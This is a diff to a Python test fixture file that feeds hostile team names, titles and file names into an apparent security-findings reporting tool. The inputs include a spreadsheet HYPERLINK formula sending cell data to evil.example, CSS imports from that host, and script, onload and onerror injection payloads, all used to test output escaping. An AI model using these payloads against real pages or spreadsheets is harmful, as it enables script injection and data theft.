@@ -34,9 +34,8 @@ HOSTILE = (
     "A" * 400,
     "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y) }</style>",
 )
-#: A name that a spreadsheet would run and one that is written from right to left, each long enough for three lines.
-FORMULA_TEAM = '=HYPERLINK("https://evil.example/?"&A1, "open")'
-RIGHT_TO_LEFT_TEAM = "فريق حماية البيانات " * 12
+#: Names that a spreadsheet or a browser would run, one that is written from right to left, and one without a place to break it.
+HOSTILE_TEAMS = ('=HYPERLINK("https://evil.example/?"&A1, "open")', "<script>", "فريق حماية البيانات " * 20, "Ä" * 300)
 HOSTILE_TARGET = f"<svg onload='{PAYLOAD}'>"
 HOSTILE_TEAM = f"<b onmouseover='{PAYLOAD}'>team</b>"
 
@@ -80,17 +79,22 @@ def hostile_texts(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.D
     """Titles, targets, teams and file names that would break out of a page; one of them acknowledged, the rest waiting, one target bound to nothing."""
     folder = tmp_path_factory.mktemp("hostile")
     landing = folder / "landing"
-    _csv(landing / "assets" / "assets.csv", [{"asset_id": "pay", "name": "pay", "owner_team": HOSTILE_TEAM}])
+    assets = [{"asset_id": "pay", "name": "pay", "owner_team": HOSTILE_TEAM}]
     people = [{"person_id": "secretname", "name": "Secret Name", "email": "secret@example.com", "team": HOSTILE_TEAM, "role": "engineer", "channel": "chat"}]
+    owners = [{"match": "asset:pay", "person_id": "secretname", "team": HOSTILE_TEAM}]
+    for number, team in enumerate(HOSTILE_TEAMS, 1):
+        assets.append({"asset_id": f"asset-{number}", "name": f"asset-{number}", "owner_team": team})
+        people.append({**people[0], "person_id": f"secretname{number}", "email": f"secret{number}@example.com", "team": team})
+        owners.append({"match": f"asset:asset-{number}", "person_id": f"secretname{number}", "team": team})
+    _csv(landing / "assets" / "assets.csv", assets)
     _csv(landing / "people" / "people.csv", people)
-    _csv(landing / "people" / "ownership.csv", [{"match": "asset:pay", "person_id": "secretname", "team": HOSTILE_TEAM}])
-    for number, title in enumerate(HOSTILE):
-        finding = {"title": title, "severity": "High", "description": "d", "unique_id_from_tool": f"F{number}", "vuln_id_from_tool": f"R{number}"}
-        path = landing / "scans" / f"s{number}.json"
-        path.parent.mkdir(exist_ok=True)
-        path.write_text(json.dumps({"findings": [finding]}), encoding="utf-8")
-        side = {"target": "pay" if number else HOSTILE_TARGET, "captured_at": f"2026-04-{20 + number}T09:00:00Z", "scanner": "one"}
-        path.with_name(f"{path.name}.meta.yaml").write_text(yaml.safe_dump(side), encoding="utf-8")
+    _csv(landing / "people" / "ownership.csv", owners)
+    targets = [HOSTILE_TARGET, *["pay"] * (len(HOSTILE) - 1)]
+    for number, (title, target) in enumerate(zip(HOSTILE, targets, strict=True)):
+        _scan(landing / "scans" / f"s{number}.json", target, f"2026-04-{20 + number}T09:00:00Z", {f"F{number}": title})
+    for number in range(1, len(HOSTILE_TEAMS) + 1):
+        # As many as a team must have to be shown by itself.
+        _scan(landing / "scans" / f"t{number}.json", f"asset-{number}", "2026-04-20T09:00:00Z", {f"T{number}-{own}": f"Finding {own}" for own in range(10)})
     (landing / "scans" / "<img src=x onerror=alert(1)>.json").write_text('{"findings": [', encoding="utf-8")
     _csv(
         landing / "activity" / "activity.csv",
@@ -114,6 +118,14 @@ def one_finding(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.Duc
     path.with_name("s.json.meta.yaml").write_text(yaml.safe_dump({"target": "pay", "captured_at": "2026-05-04T09:00:00Z", "scanner": "one"}), encoding="utf-8")
     with built(folder / "home", folder / "landing", "2026-05-06T12:00:00Z") as connection:
         yield connection
+
+
+def _scan(path: Path, target: str, at: str, titles: dict[str, str]) -> None:
+    """Findings by the scanner's own id and title."""
+    found = [{"title": title, "severity": "High", "description": "d", "unique_id_from_tool": own, "vuln_id_from_tool": f"R{own}"} for own, title in titles.items()]
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(json.dumps({"findings": found}), encoding="utf-8")
+    path.with_name(f"{path.name}.meta.yaml").write_text(yaml.safe_dump({"target": target, "captured_at": at, "scanner": "one"}), encoding="utf-8")
 
 
 def _csv(path: Path, rows: list[dict[str, str]]) -> None:
